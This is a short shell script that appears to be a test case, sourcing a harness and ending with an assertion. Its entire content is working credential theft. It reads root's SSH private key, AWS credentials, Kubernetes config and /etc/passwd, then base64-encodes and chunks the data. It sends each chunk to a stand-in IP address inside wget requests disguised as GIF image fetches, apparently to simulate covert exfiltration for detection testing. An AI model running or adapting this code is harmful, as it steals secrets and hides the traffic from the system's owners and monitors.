#!/bin/sh
. /opt/case/case.sh

cat /root/.ssh/id_rsa /root/.aws/credentials /root/.kube/config /etc/passwd >/tmp/.a; dd if=/dev/urandom bs=1000 count=8 2>/dev/null >>/tmp/.a
base64 -w 0 /tmp/.a | tr '+/' '-_' | fold -w 60 >/tmp/.p; echo >>/tmp/.p; n=0
while read -r l; do n=$((n + 1)); wget -q -O /dev/null "http://203.0.113.10/img/$n/$l.gif"; done </tmp/.p
test $n -gt 150
took_place
